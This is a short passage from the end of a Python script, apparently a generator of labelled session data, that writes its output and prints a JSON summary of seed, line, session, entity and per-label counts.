        fn(g)
    total, labels = write_all(g, a.out)
    counts = {}
    for s, _, _, _ in labels:
        counts[s.label] = counts.get(s.label, 0) + 1
    print(json.dumps({"seed": a.seed, "lines": total, "sessions": len(labels), "entities": len(g.entities),
                      "by_label": dict(sorted(counts.items()))}))


if __name__ == "__main__":
    main()
